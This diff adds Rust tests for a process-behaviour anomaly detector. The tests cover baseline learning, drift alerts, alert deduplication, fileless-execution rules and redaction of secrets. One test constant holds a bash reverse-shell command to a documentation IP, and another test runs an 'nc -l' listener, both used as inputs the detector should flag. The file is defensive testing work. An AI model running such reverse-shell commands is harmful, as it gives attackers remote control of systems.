@@ -1,0 +1,128 @@
+use super::*;
+use crate::policy::{MaturityMethod, Policy};
+use crate::time::Duration;
+
+fn line(seconds: i64, executable: &str, argv: &[&str]) -> Observation {
+    let observation = serde_json::json!({
+        "time": crate::testkit::at(seconds),
+        "workload": "shop/Deployment/cart",
+        "container": "app",
+        "feed": "process",
+        "process": {"executable": executable, "parent": "/usr/bin/python3", "argv": argv, "source": "image"},
+    });
+    serde_json::from_value(observation).expect("an observation")
+}
+
+fn policy(learning: Duration) -> Policy {
+    let mut policy = Policy::default();
+    policy.maturity.method = MaturityMethod::Elapsed;
+    policy.maturity.minimum = learning;
+    policy
+}
+
+fn learned() -> Learning {
+    let mut learning = Learning::default();
+    for number in 0..200 {
+        let command = format!("tar czf /backup/db-{number}.tar.gz /data/shard{number}; ls -l /backup/{number}");
+        learning.learn(&line(number * 60, "/usr/bin/bash", &["bash", "-c", &command]));
+        learning.learn(&line(number * 60, "/usr/bin/date", &["date", "+%s"]));
+    }
+    learning
+}
+
+const SHELL: [&str; 3] = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1"];
+
+#[test]
+fn what_was_learned_is_known_and_what_is_strange_drifts_with_its_reasons() {
+    let mut backtest = learned().finish(policy(Duration::ZERO));
+    let known = backtest.judge(&line(20_000, "/usr/bin/date", &["date", "+%s"]));
+    assert_eq!((known.verdict, known.rules), (Ruling::Known, vec![]));
+    let unusual = backtest.judge(&line(20_001, "/usr/bin/bash", &SHELL));
+    assert_eq!(
+        (unusual.verdict, &unusual.rules[..]),
+        (Ruling::Drift, &[UNUSUAL_COMMAND][..])
+    );
+    assert!(unusual.p.is_some_and(|p| p < 0.01), "{unusual:?}");
+    assert!(
+        unusual.capabilities.contains(&"opens a socket".to_owned()),
+        "{unusual:?}"
+    );
+    let outside = backtest.judge(&line(20_002, "/usr/bin/nc", &["nc", "-l"]));
+    assert_eq!(outside.rules[0], "process-outside-baseline");
+    let summary = backtest.summary();
+    assert_eq!(
+        (summary.lines, summary.known, summary.drift, summary.alerts),
+        (3, 1, 2, 2)
+    );
+}
+
+#[test]
+fn a_deviation_that_repeats_is_one_alert() {
+    let mut backtest = learned().finish(policy(Duration::ZERO));
+    for second in 0..50 {
+        assert_eq!(
+            backtest.judge(&line(20_000 + second, "/usr/bin/bash", &SHELL)).verdict,
+            Ruling::Drift
+        );
+    }
+    let summary = backtest.summary();
+    assert_eq!((summary.drift, summary.alerts), (50, 1));
+    assert!((summary.alerts_per_day - 1.0).abs() < f64::EPSILON);
+}
+
+#[test]
+fn a_baseline_that_still_learns_scores_and_raises_nothing() {
+    let mut backtest = learned().finish(policy(Duration::from_hours(24)));
+    let judged = backtest.judge(&line(20_000, "/usr/bin/nc", &SHELL));
+    assert_eq!((judged.verdict, judged.rules), (Ruling::Learned, vec![]));
+    assert!(judged.p.is_some_and(|p| p < 0.01) && judged.novelty > 0.0);
+    let later = backtest.judge(&line(100_000, "/usr/bin/id", &["id"]));
+    assert_eq!(later.verdict, Ruling::Drift);
+    assert_eq!(backtest.summary().maturity[0].hours_to_maturity, Some(27));
+}
+
+#[test]
+fn what_needs_no_baseline_is_not_learned_from_a_recording() {
+    let mut learning = learned();
+    let mut fileless = line(1, "/memfd:x", &["x"]);
+    let crate::observation::Observed::Process(process) = &mut fileless.what;
+    process.source = crate::behaviour::SourceLayer::Memory;
+    learning.learn(&fileless);
+    let mut backtest = learning.finish(policy(Duration::ZERO));
+    assert_eq!(backtest.judge(&fileless).rules[0], "fileless-execution");
+}
+
+#[test]
+fn an_entry_that_was_not_seen_for_the_window_is_forgotten_while_others_are_seen() {
+    let mut backtest = learned().finish(policy(Duration::ZERO));
+    let day = 86_400;
+    let old = [
+        "bash",
+        "-c",
+        "tar czf /backup/db-7.tar.gz /data/shard7; ls -l /backup/7",
+    ];
+    for days in 1..9 {
+        let judged = backtest.judge(&line(days * day, "/usr/bin/date", &["date", "+%s"]));
+        assert_eq!(judged.verdict, Ruling::Known);
+    }
+    let judged = backtest.judge(&line(9 * day, "/usr/bin/bash", &old));
+    assert_eq!(judged.rules, ["process-outside-baseline"]);
+}
+
+#[test]
+fn secrets_of_a_recording_are_not_shown() {
+    let mut learning = Learning::default();
+    learning.learn(&line(0, "/usr/bin/mysql", &["mysql", "-phunter2hunter2"]));
+    let mut backtest = learning.finish(policy(Duration::ZERO));
+    let judged = backtest.judge(&line(
+        1,
+        "/usr/bin/mysql",
+        &["mysql", "-phunter2hunter3", "--token", "abcdefgh"],
+    ));
+    let written = serde_json::to_string(&judged).expect("JSON");
+    assert!(
+        !written.contains("hunter2") && !written.contains("abcdefgh"),
+        "{written}"
+    );
+    assert!(written.contains("<secret:3>"), "{written}");
+}
